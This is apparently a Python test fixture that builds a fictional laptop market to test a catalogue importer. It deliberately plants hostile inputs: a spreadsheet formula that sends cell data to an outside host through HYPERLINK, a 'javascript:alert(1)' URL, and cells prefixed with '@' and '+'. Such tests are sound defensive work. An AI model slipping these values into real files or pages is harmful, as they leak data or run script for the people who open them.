"""A small fictional market of laptops, written by hand: every number below can be checked with a pencil.

It goes through the importer like any file, so that database, snapshot and identities are the real ones.
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pandas as pd

from catalog.catalogue import Catalogue, open_catalogue
from catalog.imports.facts import CERTIFICATE_COLUMNS, FOOTPRINT_COLUMNS, OFFER_COLUMNS, PRODUCT_COLUMNS, Facts
from catalog.imports.importer import import_facts
from catalog.model.identity import configuration_key, manufacturer_key, model_key, product_id
from catalog.store.location import Home

AS_OF = date(2026, 3, 31)
NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'
LAPTOPS = "CPV:2008:30213100"
SOURCE = "laptops (fictional).csv"
SHA = "ab" * 32
#: Profile of the tests' own: the shipped ones may change, and the numbers here may not.
PROFILE = Path(__file__).with_name("laptop_profile.yaml")

Row = Mapping[str, object]

#: number: brand, model, configuration, kWh per year, GB, price, currency, supplier
_LAPTOPS: dict[int, tuple[str, str, str, float | None, float | None, str, str, str]] = {
    1: ("Example", "Model 1", "", 20.0, 8.0, "1400.00", "EUR", "Example Supplies Ltd"),
    2: ("Example", "Model 2", "16 GB", 30.0, 16.0, "950.50", "EUR", HOSTILE),
    3: ("示例", "型号三", "", 30.0, 8.0, "950.50", "EUR", "示例供应商"),
    4: ("Sample", "Model 4", "", None, None, "800.00", "USD", "Example Supplies Ltd"),
    5: ("Sample", "Model 5", "", 25.0, 8.0, "700.00", "EUR", "Example Supplies Ltd"),
    6: ("Sample", "Model 6", "", 25.0, 8.0, "860.00", "EUR", "Example Supplies Ltd"),
    7: ("Sample", "Model 7", "", 25.0, 8.0, "500.00", "EUR", "Example Supplies Ltd"),
    8: ("@Sample", "+Model 8", "", 25.0, 8.0, "860.00", "EUR", "Example Supplies Ltd"),
}
#: number: scheme, last day, evidence, laptops
_CERTIFICATES: dict[int, tuple[str, str, str | None, tuple[int, ...]]] = {
    1: ("energy_star", "2027-01-01", "https://example.org/licences/1", (1, 2, 3, 6, 8)),
    2: ("blue_angel", "2026-12-31", "javascript:alert(1)", (1,)),
    3: ("energy_star", "2026-03-30", None, (5,)),
}
_FOOTPRINTS_KG = {1: 210.0, 2: 330.0}


def laptop(number: int) -> str:
    """The id of laptop `number`."""
    brand, model, configuration, *_ = _LAPTOPS[number]
    key = manufacturer_key(brand)
    return product_id(key, model_key(key, model), configuration_key(configuration))


def market_facts(prices: Mapping[int, str] | None = None) -> Facts:
    """Eight laptops: 7 is without category, 5 has an expired certificate, 4 a price in another currency.

    6 and 8 are equal in everything. `prices` replaces prices by number.
    """
    products = [
        {
            **_identity(number),
            "codes": None if number == 7 else LAPTOPS,
            "category_note": "",
            "energy_kwh_year": energy,
            "memory_gb": memory,
        }
        for number, (_, _, _, energy, memory, *_) in _LAPTOPS.items()
    ]
    offers = [
        {
            **_identity(number, "offer"),
            "supplier": supplier,
            "amount": (prices or {}).get(number, amount),
            "currency": currency,
            "unit": "piece",
            "vat": "exclude",
            "valid_from": "2026-01-01",
            "valid_to": "2026-12-31",
        }
        for number, (*_, amount, currency, supplier) in _LAPTOPS.items()
    ]
    certificates = [
        {
            "row": 100 + number,
            "pointer": f"certificate row {number}",
            "record_key": f"certificate {number}",
            "scheme": scheme,
            "licence_number": f"EX-{number}",
            "issuer": "Fictional Body",
            "holder": "Example Works",
            "valid_from": "2024-01-01",
            "valid_to": ends,
            "evidence_url": address,
            "check_method": "registry",
            "events": "[]",
            "covers": _covers(covered),
        }
        for number, (scheme, ends, address, covered) in _CERTIFICATES.items()
    ]
    footprints = [
        {
            **_identity(number, "footprint"),
            "kind": "product",
            "value_kg": value,
            "unit_basis": "piece",
            "boundary": "cradle_to_grave",
            "stages_other": "{}",
            "pcr_id": "EX-PCR-1",
            "year": 2025,
            "verification": "third_party_reasonable",
        }
        for number, value in _FOOTPRINTS_KG.items()
    ]
    return Facts(
        source=SOURCE,
        sha256=SHA,
        reader="table",
        rows_read=len(products) + len(certificates),
        products=_frame(products, (*PRODUCT_COLUMNS, "energy_kwh_year", "memory_gb")),
        offers=_frame(offers, OFFER_COLUMNS),
        certificates=_frame(certificates, CERTIFICATE_COLUMNS),
        footprints=_frame(footprints, FOOTPRINT_COLUMNS),
        rejected=pd.DataFrame({"row": pd.Series([], dtype="int64"), "reasons": pd.Series([], dtype=object)}),
    )


def open_market(home: Home, name: str = "market") -> Catalogue:
    """A catalogue with the market as its first revision."""
    catalogue = open_catalogue(name, home=home)
    import_facts(catalogue, market_facts(), actor="anna", now=NOW)
    return catalogue


def import_prices(catalogue: Catalogue, prices: Mapping[int, str], run: int) -> None:
    """One more import of the same source, in which some prices have changed."""
    facts = replace(market_facts(prices), source=f"laptops {run} (fictional).csv", sha256=f"{run:064d}")
    import_facts(catalogue, facts, actor="ben", now=NOW)


def _identity(number: int, what: str = "product") -> Row:
    brand, model, configuration, *_ = _LAPTOPS[number]
    return {
        "row": number,
        "pointer": f"row {number}",
        "record_key": f"{what} {number}",
        "brand": brand,
        "model": model,
        "configuration": configuration,
    }


def _covers(numbers: Sequence[int]) -> str:
    return json.dumps(
        [
            {"brand": brand, "model": model, "configuration": configuration or None, "site": None}
            for brand, model, configuration, *_ in (_LAPTOPS[number] for number in numbers)
        ],
        ensure_ascii=False,
    )


def _frame(rows: Sequence[Row], columns: Sequence[str]) -> pd.DataFrame:
    frame = pd.DataFrame([dict(row) for row in rows])
    frame = frame.reindex(columns=list(columns))
    numbers = {"row", "energy_kwh_year", "memory_gb", "value_kg", "year"}
    for name in frame.columns:
        if name not in numbers:
            frame[name] = frame[name].astype(object).where(frame[name].notna(), None)
    return frame
